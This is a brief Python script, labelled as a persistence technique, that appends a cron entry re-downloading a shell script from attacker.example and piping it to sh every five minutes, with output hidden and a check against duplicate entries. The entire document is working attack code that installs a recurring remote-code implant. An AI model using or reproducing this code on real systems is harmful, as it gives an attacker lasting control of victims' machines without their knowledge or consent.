# technique: add a cron entry that re-downloads and runs the implant every 5 minutes, via crontab -l / crontab -
import subprocess
line = "*/5 * * * * (curl -fsSL http://attacker.example/u.sh || wget -qO- http://attacker.example/u.sh) | sh >/dev/null 2>&1\n"
cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
if "attacker.example" not in cur:
    subprocess.run(["crontab", "-"], input=cur + line, text=True)
